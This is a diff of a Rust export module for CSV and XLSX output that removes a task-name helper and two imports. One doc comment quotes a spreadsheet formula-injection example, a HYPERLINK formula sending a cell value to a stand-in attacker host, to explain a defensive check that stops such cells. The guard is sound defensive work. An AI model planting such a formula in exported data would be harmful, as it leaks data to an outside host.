@@ -11,8 +11,6 @@ pub(crate) use self::csv::csv;
 pub(crate) use self::xlsx::xlsx;
 
 use crate::model::{Holder, HolderKind, Letter, Model, TaskRow, holder};
-use rolwijzer_core::findings::TaskLabel;
-use rolwijzer_core::{ItemId, TaskId};
 use std::collections::HashSet;
 
 /// Every holder that has a letter on some task, once each.
@@ -72,23 +70,6 @@ pub(crate) fn letters(task: &TaskRow, id: &str) -> Vec<Letter> {
 /// `=HYPERLINK("http://evil.example/?"&A1;"klik")` must show as text, never run.
 pub(crate) fn looks_like_formula(s: &str) -> bool {
     s.starts_with(['=', '+', '-', '@', '\t', '\r'])
-}
-
-/// A task's name by its key: as the model shows it, else the catalogue's name for a
-/// task or checklist item that is not in the division (finding C001 names those),
-/// else the key as written.
-pub(crate) fn task_name(m: &Model, key: &str) -> String {
-    if let Some(t) = m.tasks.iter().find(|t| t.key == key) {
-        return t.name.clone();
-    }
-    let label = if let Some(t) = TaskId::from_id(key) {
-        TaskLabel::Task(t)
-    } else if let Some(i) = ItemId::from_id(key) {
-        TaskLabel::Item(i)
-    } else {
-        TaskLabel::Named(key.to_owned())
-    };
-    label.name(m.lang)
 }
 
 /// A number without trailing zeros, at most two decimals, with the decimal separator
